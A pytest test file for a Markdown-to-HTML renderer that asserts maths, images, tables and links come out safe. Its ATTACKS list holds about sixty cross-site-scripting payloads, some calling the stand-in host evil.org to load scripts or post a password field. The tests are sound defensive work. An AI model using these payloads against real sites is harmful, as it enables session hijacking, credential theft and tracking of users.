"""Markdown to HTML: maths, pictures, and attacks that must come out dead."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from mien.server.markdown import MEDIA_PATH, render, rendered

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.org/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=a()>'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.org/x.swf>",
    "<base href=//evil.org/>",
    "<meta http-equiv=refresh content='0;url=//evil.org'>",
    "<link rel=stylesheet href=//evil.org/x.css>",
    "<style>@import '//evil.org/x.css'</style>",
    "<form action=//evil.org><input name=password></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<p style='background:url(//evil.org/x)'>",
    "<div id=app class=overlay>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](https://a.org 'onmouseover=alert(1)')",
    '[x](https://a.org"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.org/who-reads.png)",
    "![x](//evil.org/who-reads.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](/api/v1/account/logins)",
    '![" onerror="alert(1)](media:there.png)',
    "![x](media:there.png '\" onerror=\"alert(1)')",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```" onmouseover="alert(1)\nx\n```',
    "$<script>alert(1)</script>$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(//evil.org)}{x}$",
    r"$\class{overlay}{x}$",
    r"$\unicode{<script>}$",
    r"$x \mathrm{</math><script>alert(1)</script>}$",
    '$"onmouseover="alert(1)$',
    "$$\n</math><img src=x onerror=alert(1)>\n$$",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
]
MEDIA = {"there.png": f"{MEDIA_PATH}1?v=ab"}


class Reader(HTMLParser):
    """What a browser would make of it: elements with their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_is_alive(attack: str) -> None:
    for text in (
        attack,
        f"words {attack} words",
        f"> {attack}\n\n1. {attack}",
        f"| a |\n|-|\n| {attack} |",
    ):
        for tag, attributes in Reader(render(text, MEDIA)).elements:
            assert tag not in {
                "script", "style", "iframe", "object", "embed", "svg", "form", "input", "base",
                "meta", "link", "details", "video", "source", "body", "annotation-xml", "mglyph",
            }, text  # fmt: skip
            assert not [name for name in attributes if name.startswith("on")], text
            assert {"style", "id"}.isdisjoint(attributes), text
            assert attributes.get("class") in (None, "formula", "formula-error", "table"), text
            link = attributes.get("href") or "https://"
            assert re.match(r"(https?://|mailto:|#)", link), text
            if tag == "img":
                assert (attributes.get("src") or MEDIA_PATH).startswith(MEDIA_PATH), text


def test_links_tell_nobody_where_they_came_from() -> None:
    page = render("[x](https://a.org)")
    assert 'href="https://a.org"' in page
    assert 'rel="noopener noreferrer nofollow"' in page


def test_maths_is_mathml_with_its_source_for_those_who_do_not_see_it() -> None:
    page = render("Energy: $E = m c^2$, and\n\n$$\\int_0^1 x \\, dx = \\frac{1}{2}$$")
    tags = [tag for tag, _ in Reader(page).elements]
    assert tags.count("math") == 2
    assert {"msup", "mfrac"} <= set(tags)
    assert "div" in tags  # the second stands on a line of its own
    assert 'alttext="E = m c^2"' in page
    assert 'aria-label="E = m c^2"' in page


def test_a_formula_that_cannot_be_read_is_shown_as_it_was_written_and_told() -> None:
    made = rendered(r"Water, $\ce{H<2>O}$, and $x$.")
    assert r'<code class="formula-error">\ce{H&lt;2&gt;O}</code>' in made.html
    assert "<math" in made.html
    assert made.problems == (r"\ce{H<2>O}: \ce is not known here.",)
    assert rendered("$x$").problems == ()


def test_prices_are_no_formulas() -> None:
    assert "<math" not in render("It costs $5 or $7.")


def test_pictures_are_those_of_the_course() -> None:
    page = render("![a wave](media:there.png) ![none](media:absent.png)", MEDIA)
    assert f'src="{MEDIA_PATH}1?v=ab"' in page
    assert 'alt="a wave"' in page
    assert page.count(MEDIA_PATH) == 1


def test_headings_leave_the_first_level_to_the_page() -> None:
    tags = [tag for tag, _ in Reader(render("# a\n\n###### b")).elements]
    assert tags == ["h2", "h6"]


def test_tables_lists_and_code() -> None:
    page = render("| a | b |\n|---|---|\n| 1 | 2 |\n\n3. c\n\n`d < e` ~~f~~")
    assert "<td>1</td>" in page
    assert '<ol start="3">' in page
    assert "<code>d &lt; e</code>" in page
    assert "<s>f</s>" in page


def test_columns_of_tables_keep_their_sides_and_tables_a_box_to_scroll_in() -> None:
    page = render("| a | b | c | d |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |")
    elements = Reader(page).elements
    assert [a.get("class") for tag, a in elements if tag == "td"] == [
        "left",
        "center",
        "right",
        None,
    ]
    assert [a.get("class") for tag, a in elements if tag == "th"] == [
        "left",
        "center",
        "right",
        None,
    ]
    assert page.startswith('<div class="table"><table>')
    assert page.rstrip().endswith("</table>\n</div>")


def test_the_same_text_with_other_pictures_is_another_page() -> None:
    text = "![a](media:a.png)"
    assert render(text, {"a.png": f"{MEDIA_PATH}2"}) != render(text, {"a.png": f"{MEDIA_PATH}3"})


def test_deep_nesting_is_no_defect() -> None:
    for text in (">" * 5000 + " a", "*" * 5000 + "a", "[" * 5000, "- " * 2000 + "a"):
        assert isinstance(render(text), str)
